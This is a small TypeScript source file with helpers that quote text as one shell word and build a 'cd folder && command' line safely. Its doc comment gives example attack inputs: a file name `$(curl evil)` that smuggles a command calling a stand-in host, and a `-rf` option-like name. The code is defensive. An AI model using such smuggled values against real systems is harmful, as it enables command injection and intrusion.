/** Quotes a text as one shell word. Attack: a file named `$(curl evil)` or `-rf`. */
export function quoteForShell(text: string): string {
  return /^[\w@%+=:,./][\w@%+=:,./-]*$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`
}

/** A command line that runs a command in a folder. */
export function inFolder(folder: string, command: string): string {
  return folder === '' ? command : `cd ${quoteForShell(folder.startsWith('-') ? `./${folder}` : folder)} && ${command}`
}
